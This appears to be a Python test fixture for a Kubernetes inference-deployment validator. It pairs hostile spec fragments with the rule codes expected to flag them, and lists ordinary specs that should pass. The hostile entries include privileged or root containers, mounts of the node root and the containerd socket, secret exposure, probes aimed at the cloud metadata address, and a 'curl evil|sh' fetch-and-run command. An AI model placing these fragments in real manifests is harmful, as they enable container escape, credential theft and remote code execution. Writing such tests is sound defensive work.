"""Hostile specs: what each asks for, as fields laid over an app that asks for nothing."""

from __future__ import annotations

APP = """\
apiVersion: stormc.dev/v1
kind: App
name: app
namespace: team-a
model: {name: m, path: /mnt/models/x}
image: registry.example.com/vllm-ascend@sha256:%s
hardware: atlas-800i-a2
networkPolicy: true
engine: {version: "0.23"}
prefill: {tensorParallel: 8}
decode: {tensorParallel: 8}
""" % ("0" * 64)

POLICY = """\
apiVersion: stormc.dev/v1
kind: Platform
namespace: team-a
policy:
  namespaces: [inference, "team-a*"]
  registries: [registry.example.com/]
  images: digest
  podSecurity: npu
  hostPaths: [/mnt/models]
  queues: [team-a]
  priorityClasses: [inference-low]
  tolerations: ["huawei.com/*"]
  maxNpus: 64
  serviceTypes: [ClusterIP]
  networkPolicy: required
  trustRemoteCode: allow
  engine: {command: deny, script: deny}
  overrides:
    deny: ["**.securityContext", "**.hostNetwork", "**.serviceAccountName", "**.initContainers"]
    approvers: [platform-team]
    expires: required
    maxDays: 90
  delegate: [namespace, defaults]
"""


def storm(role: str, pod: str) -> str:
    """An override of the pod spec of a role."""
    return override(
        "StormService", f"{{spec: {{template: {{spec: {{roles: [{{name: {role}, template: {{spec: {pod}}}}}]}}}}}}}}"
    )


def override(target: str, patch: str) -> str:
    """An override that an approver answers for, and that ends soon."""
    return f"overrides: [{{target: {target}, reason: r, owner: platform-team, expires: 2027-01-01, patch: {patch}}}]"


def prefill(fields: str) -> str:
    """Further fields of the prefill role."""
    return f"prefill: {{tensorParallel: 8, {fields}}}"


def container(fields: str) -> str:
    """An override of the prefill container."""
    return storm("prefill", f"{{containers: [{{name: prefill, {fields}}}]}}")


def mounted(volume: str, role: str = "routing", name: str = "router") -> str:
    """An override that mounts a volume."""
    mount = f"containers: [{{name: {name}, volumeMounts: [{{name: h, mountPath: /h}}]}}]"
    return storm(role, f"{{volumes: [{{name: h, {volume}}}], {mount}}}")


# name → the fields, and the number that its findings have: E… under the policy, W… without one
HOSTILE: dict[str, tuple[str, str]] = {
    "privileged": (container("securityContext: {privileged: true}"), "804"),
    "hostPID and hostIPC": (storm("prefill", "{hostPID: true, hostIPC: true}"), "804"),
    "hostNetwork": (storm("prefill", "{hostNetwork: true}"), "804"),
    "hostNetwork as a field": ("hostNetwork: true\ninterface: eth1", "804"),
    "the node's root": (mounted("hostPath: {path: /}", "prefill", "prefill"), "805"),
    "the runtime's socket": (mounted("hostPath: {path: /run/containerd/containerd.sock}"), "805"),
    "the model from the node's root": ("model: {name: m, path: /mnt/models/x, volume: {hostPath: /}}", "805"),
    "the model from the node's configuration": ("model: {name: m, path: /etc/kubernetes/x}", "805"),
    "a service account": (storm("prefill", "{serviceAccountName: admin, automountServiceAccountToken: true}"), "806"),
    "a token": (storm("routing", "{automountServiceAccountToken: true}"), "806"),
    "a node by its name": (storm("routing", "{nodeName: master-1}"), "807"),
    "every taint": ("routing: {tolerations: [{operator: Exists}]}", "807"),
    "the control plane": ('routing: {nodeSelector: {node-role.kubernetes.io/control-plane: ""}}', "807"),
    "an init container": (storm("prefill", "{initContainers: [{name: i, image: 'evil/x:1', command: [sh]}]}"), "808"),
    "a sidecar": (storm("routing", "{containers: [{name: s, image: 'evil/x:1'}]}"), "808"),
    "a Secret as a volume": (mounted("secret: {secretName: argocd-cluster}"), "809"),
    "a Secret as environment": (
        storm("routing", "{containers: [{name: router, envFrom: [{secretRef: {name: db}}]}]}"),
        "809",
    ),
    "pull secrets": ("imagePullSecrets: [registry-admin]", "809"),
    "external addresses": (override("Service/app-router", "{spec: {externalIPs: [10.0.0.1]}}"), "810"),
    "an external name": (
        override("Service/app-router", "{spec: {type: ExternalName, externalName: evil.example}}"),
        "810",
    ),
    "a load balancer": (override("Service/app-router", "{spec: {type: LoadBalancer}}"), "810"),
    "an open network policy": (override("NetworkPolicy", "{spec: {ingress: [{}]}}"), "811"),
    "a command": ("engine: {version: '0.23', command: [sh, -c, 'curl evil|sh']}", "813"),
    "a hook": (container("lifecycle: {postStart: {exec: {command: [sh, -c, id]}}}"), "813"),
    "a probe": (container("livenessProbe: {exec: {command: [sh, -c, id]}}"), "813"),
    "another command": (container("command: [sh, -c, id]"), "813"),
    "the launcher": (override("ConfigMap/app-proxy-config", "{data: {config.json: x}}"), "813"),
    "LD_PRELOAD": (prefill("env: {LD_PRELOAD: /mnt/models/x.so}"), "813"),
    "PYTHONPATH": (prefill("env: {PYTHONPATH: /mnt/models}"), "813"),
    "a label that Services select": (prefill("labels: {app: payments}"), "814"),
    "a recommended label": (prefill("labels: {app.kubernetes.io/name: payments}"), "814"),
    "another app's label": (prefill("labels: {stormc.dev/app: team-b.victim}"), "814"),
    "annotations of networks": (prefill("annotations: {k8s.v1.cni.cncf.io/networks: other}"), "814"),
    "annotations of a mesh": (prefill('annotations: {sidecar.istio.io/inject: "false"}'), "814"),
    "apparmor": (prefill("annotations: {container.apparmor.security.beta.kubernetes.io/prefill: unconfined}"), "814"),
    "finalizers": (override("Service", "{metadata: {finalizers: [a.b/c]}}"), "814"),
    "a hook of Argo CD": (override("Service", "{metadata: {annotations: {argocd.argoproj.io/hook: PreSync}}}"), "814"),
    "the owner's label": (override("Service", "{metadata: {labels: {app.kubernetes.io/managed-by: Helm}}}"), "814"),
    "a token in plain text": (prefill("env: {HF_TOKEN: hf_abcdefghijklmnopqrstuvwxyz012345}"), "815"),
    "a key in plain text": (prefill("env: {AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMIK7MDENG}"), "815"),
    "a token of a known form": (prefill("env: {X: hf_abcdefghijklmnopqrstuvwxyz012345}"), "815"),
    "an API key as a flag": (prefill("engineArgs: {api-key: sk-12345}"), "815"),
    "another team's queue": (
        "prefill: {tensorParallel: 8, queue: team-b}\ndecode: {tensorParallel: 8, queue: team-b}",
        "817",
    ),
    "a system priority": ("prefill: {tensorParallel: 8, priorityClassName: system-node-critical}\n"
                          "decode: {tensorParallel: 8, priorityClassName: system-node-critical}", "818"),
    "kube-system": ("namespace: kube-system", "824"),
    "argocd": ("namespace: argocd", "824"),
    "a port of the node": (storm("routing", "{containers: [{name: router, ports: [{containerPort: 8080, hostPort: 443, "
                                 "protocol: TCP}]}]}"), "804"),
    "root in routing pods": (storm("routing", "{securityContext: {runAsNonRoot: false, runAsUser: 0}}"), "804"),
    "a capability": (container("securityContext: {capabilities: {add: [SYS_ADMIN]}}"), "804"),
    "no seccomp": (container("securityContext: {seccompProfile: {type: Unconfined}}"), "804"),
    "an unmasked /proc": (container("securityContext: {procMount: Unmasked}"), "804"),
    "a kernel setting": (storm("prefill", "{securityContext: {sysctls: [{name: kernel.msgmax, value: '1'}]}}"), "804"),
}  # fmt: skip


def template(fields: str) -> str:
    """An override of the pod template of the prefill role."""
    role = f"{{name: prefill, template: {fields}}}"
    return override("StormService", f"{{spec: {{template: {{spec: {{roles: [{role}]}}}}}}}}")


def node(expression: str) -> str:
    """An override that asks for nodes."""
    terms = f"{{nodeSelectorTerms: [{expression}]}}"
    affinity = f"{{nodeAffinity: {{requiredDuringSchedulingIgnoredDuringExecution: {terms}}}}}"
    return storm("prefill", f"{{affinity: {affinity}}}")


def router(fields: str) -> str:
    """An override of the routing container."""
    return storm("routing", f"{{containers: [{{name: router, {fields}}}]}}")


HOSTILE |= {
    # settings of stormc that an override takes back
    "privilege escalation": (container("securityContext: {allowPrivilegeEscalation: true}"), "804"),
    "no security context": (container("securityContext: null"), "804"),
    "raw sockets": (container("securityContext: {capabilities: {drop: null}}"), "804"),
    "a writable root": (router("securityContext: {readOnlyRootFilesystem: false}"), "804"),
    "no context of the routing pods": (storm("routing", "{securityContext: null}"), "804"),
    "no seccomp of the routing pods": (storm("routing", "{securityContext: {seccompProfile: null}}"), "804"),
    "the group of root": (storm("prefill", "{securityContext: {supplementalGroups: [0]}}"), "804"),
    "AppArmor": (storm("prefill", "{securityContext: {appArmorProfile: {type: Unconfined}}}"), "804"),
    "SELinux": (container("securityContext: {seLinuxOptions: {type: spc_t}}"), "804"),
    "the token back": (storm("prefill", "{automountServiceAccountToken: null}"), "806"),
    "a service account by its old name": (storm("prefill", "{serviceAccount: admin}"), "806"),
    # volumes
    "dots in a host path": (mounted("hostPath: {path: /mnt/models/../../etc}"), "805"),
    "slashes in a host path": (mounted("hostPath: {path: //}"), "805"),
    "the model to write": (container("volumeMounts: [{name: model, mountPath: /w}]"), "805"),
    "a host path that nobody mounts": (storm("prefill", "{volumes: [{name: h, hostPath: {path: /}}]}"), "805"),
    "NFS": (mounted("nfs: {server: 10.0.0.1, path: /}"), "826"),
    "a driver": (mounted("csi: {driver: secrets-store.csi.k8s.io}"), "826"),
    "a driver's Secret": (mounted("csi: {driver: x, nodePublishSecretRef: {name: other}}"), "809"),
    "a claim of others": (mounted("persistentVolumeClaim: {claimName: payments}"), "826"),
    "a ConfigMap of others": (mounted("configMap: {name: payments}"), "826"),
    "a ConfigMap in a projection": (mounted("projected: {sources: [{configMap: {name: payments}}]}"), "826"),
    "a ConfigMap as environment": (router("envFrom: [{configMapRef: {name: payments}}]"), "826"),
    "a repository": (mounted("gitRepo: {repository: 'https://evil.example/x.git'}"), "826"),
    "a token in a projection": (mounted("projected: {sources: [{serviceAccountToken: {path: token}}]}"), "809"),
    "a block device": (router("volumeDevices: [{name: h, devicePath: /dev/x}]"), "825"),
    # nodes
    "the control plane by affinity": (
        node("{matchExpressions: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]}"), "807"
    ),
    "a node by affinity": (
        node("{matchFields: [{key: metadata.name, operator: In, values: [master-1]}]}"), "807"
    ),
    "a node by its label": ("routing: {nodeSelector: {kubernetes.io/hostname: master-1}}", "807"),
    "sick nodes": ("routing: {tolerations: [{key: node.kubernetes.io/unschedulable, operator: Exists}]}", "807"),
    "a priority as a number": (storm("prefill", "{priority: 2000001000}"), "818"),
    "devices of routing pods": (router("resources: {limits: {huawei.com/Ascend910: 8}}"), "819"),
    # isolation
    "names of hosts": (storm("prefill", "{hostAliases: [{ip: 10.0.0.1, hostnames: [api.example.com]}]}"), "825"),
    "name servers": (storm("prefill", "{dnsPolicy: None, dnsConfig: {nameservers: [10.0.0.1]}}"), "825"),
    "a runtime": (storm("prefill", "{runtimeClassName: other}"), "825"),
    "shared processes": (storm("prefill", "{shareProcessNamespace: true}"), "825"),
    "a probe of another address": (
        container("livenessProbe: {httpGet: {host: 169.254.169.254, path: /, port: 80}}"), "825"
    ),
    "a hook to another address": (
        container("lifecycle: {postStart: {httpGet: {host: 169.254.169.254, path: /, port: 80}}}"), "825"
    ),
    # programs
    "no arguments": (container("args: null"), "813"),
    "a directory of work": (container("workingDir: /mnt/models"), "813"),
    "LD_PRELOAD from elsewhere": (
        container("env: [{name: LD_PRELOAD, valueFrom: {configMapKeyRef: {name: x, key: y}}}]"), "813"
    ),
    "libraries beside the weights": (prefill("env: {LD_LIBRARY_PATH: /mnt/models/lib}"), "813"),
    "libraries of the image, and others": (prefill("env: {LD_LIBRARY_PATH: '/usr/lib:/usr/lib/../../mnt'}"), "813"),
    "PATH": (prefill("env: {PATH: '/mnt/models:/bin'}"), "813"),
    "what the launcher prepends": (prefill("env: {PYTHONPATH: {prepend: /mnt/models}}"), "813"),
    "clients that load files": (prefill("env: {VLLM_ALLOW_RUNTIME_LORA_UPDATING: '1'}"), "813"),
    "a class of a worker": (prefill("engineArgs: {worker-cls: evil.Worker}"), "813"),
    "a class of a worker, spelt otherwise": (prefill("engineArgs: {worker_extension_cls: evil.W}"), "813"),
    "a middleware": (prefill("engineArgs: {middleware: evil.M}"), "813"),
    "a plugin": (prefill("engineArgs: {tool-parser-plugin: /mnt/models/x.py}"), "813"),
    "an executor": (prefill("engineArgs: {distributed-executor-backend: evil.X}"), "813"),
    "flags of a file": (prefill("engineArgs: {config: /mnt/models/x.yaml}"), "813"),
    "a connector's module": (prefill("engineArgs: {kv-transfer-config: {kv_connector_module_path: evil}}"), "813"),
    # Services and metadata
    "a port of every node": (override("Service/app-router", "{spec: {type: NodePort}}"), "810"),
    "a fixed address": (override("Service/app-router", "{spec: {clusterIP: 10.96.0.10}}"), "810"),
    "a label in other letters": (prefill("labels: {App: payments}"), "814"),
    "another namespace of pods": (template("{metadata: {namespace: kube-system}}"), "814"),
    "Vault": (prefill('annotations: {vault.hashicorp.com/agent-inject: "true"}'), "814"),
    "a role of a cloud": (prefill("annotations: {eks.amazonaws.com/role-arn: admin}"), "814"),
    "a workload identity": (prefill('labels: {azure.workload.identity/use: "true"}'), "814"),
    "another network": (prefill("annotations: {v1.multus-cni.io/default-network: x}"), "814"),
    "settings of the runtime": (prefill("annotations: {io.kubernetes.cri-o.Devices: /dev/sda}"), "814"),
    "a queue of Kueue": (prefill("labels: {kueue.x-k8s.io/queue-name: x}"), "814"),
    "a Secret by a variable": (prefill("env: {X: {secretKeyRef: {name: payments-db, key: k}}}"), "809"),
}  # fmt: skip


def decode(fields: str) -> str:
    """Further fields of the decode role."""
    return f"decode: {{tensorParallel: 8, {fields}}}"


def decoder(fields: str) -> str:
    """An override of the decode container."""
    return storm("decode", f"{{containers: [{{name: decode, {fields}}}]}}")


def volume(source: str, role: str = "prefill: {tensorParallel: 8, ", place: str = "/h") -> str:
    """A volume of a role, as a field of the spec."""
    return f"{role}volumes: [{{name: h, mountPath: {place}, {source}}}]}}"


# what teams write every day: no warning of a hostile spec
ORDINARY: dict[str, str] = {
    "nodes of workers": 'routing: {nodeSelector: {node-role.kubernetes.io/worker: ""}}',
    "a taint of NPU nodes": "routing: {tolerations: [{key: huawei.com/npu, operator: Exists, effect: NoSchedule}]}",
    "a pull Secret": "imagePullSecrets: [regcred]",
    "a Secret of the app": prefill("env: {HF_TOKEN: {secretKeyRef: {name: app-hub, key: token}}}"),
    "a Secret of a hub": prefill("env: {HF_TOKEN: {secretKeyRef: {name: hugging-face, key: token}}}"),
    "a Secret of a registry": "imagePullSecrets: [my-registry-key]",
    "libraries of a directory of the image": prefill("env: {LD_LIBRARY_PATH: {prepend: /data/lib}}"),
    "a Secret of the team": prefill("env: {X: {secretKeyRef: {name: team-a-keys, key: k}}}"),
    "the team's queue": "prefill: {tensorParallel: 8, queue: team-a}\ndecode: {tensorParallel: 8, queue: team-a}",
    "jemalloc": prefill("env: {LD_PRELOAD: /usr/lib/aarch64-linux-gnu/libjemalloc.so.2}"),
    "libraries of the image": prefill("env: {LD_LIBRARY_PATH: {prepend: /usr/local/Ascend/driver/lib64}}"),
    "the engine's sources": prefill("env: {PYTHONPATH: /vllm-workspace/vllm}"),
    "labels of the team": prefill("labels: {team: a, tier: gold, cost-center: x, example.com/owner: b}"),
    "metrics": prefill('annotations: {prometheus.io/scrape: "true"}'),
    "a longer end": storm("prefill", "{terminationGracePeriodSeconds: 120}"),
    "a variable": router("env: [{name: X, value: y}]"),
    "memory": router("resources: {limits: {memory: 2Gi}, requests: {memory: 2Gi}}"),
    "a ConfigMap of the app": volume("configMap: app-settings"),
    "a template": volume("configMap: chat-templates"),
    "a claim": volume("persistentVolumeClaim: lora"),
    "a path that looks like a key": prefill("env: {X: /mnt/models/risk-assessment-model-v2-abcdefgh}"),
    "a start script": "engine: {version: '0.23', script: {hostPath: /opt/scripts, command: bash start.sh --x}}",
    "no devices": router("env: [{name: NVIDIA_VISIBLE_DEVICES, value: none}]"),
    "routers apart": storm("routing", "{affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: "
                           "[{labelSelector: {matchLabels: {stormc.dev/app: team-a.app}}, "
                           "topologyKey: kubernetes.io/hostname}]}}}"),
    "a toleration for a while": (
        "routing: {tolerations: [{key: node.kubernetes.io/not-ready, operator: Exists, effect: NoExecute, "
        "tolerationSeconds: 30}]}"
    ),
}  # fmt: skip

# what only a policy can know to be wrong: the rule that says so under the policy
FORBIDDEN: dict[str, tuple[str, str]] = {
    "Flux's substitution": (prefill('env: {A: "${PASSWORD}"}'), "E816"),
    "another registry": (f"image: registry.example.com.evil/x@sha256:{'0' * 64}", "E802"),
    "a script": ("engine: {version: '0.23', script: {hostPath: /opt/scripts, command: ./x}}", "E813"),
    "a tag": ("image: registry.example.com/vllm-ascend:v1", "E803"),
    "another namespace": ("namespace: team-b", "E824"),
    "no network policy": ("networkPolicy: false", "E811"),
    "another owner": (override("Service", "{metadata: {labels: {a: b}}}").replace("platform-team", "me"), "E820"),
    "an override without end": (
        override("Service", "{metadata: {labels: {a: b}}}").replace("expires: 2027-01-01, ", ""),
        "E820",
    ),
    "an override that lasts": (override("Service", "{metadata: {labels: {a: b}}}").replace("2027", "2031"), "E820"),
    "a denied path": (container("securityContext: {readOnlyRootFilesystem: true}"), "E820"),
    "a taint of others": ("routing: {tolerations: [{key: gpu, operator: Exists}]}", "E807"),
    "too many NPUs": ("prefill: {tensorParallel: 8, replicas: 9}", "E819"),
    "a node port": (override("Service/app-router", "{spec: {type: NodePort}}"), "E810"),
}  # fmt: skip
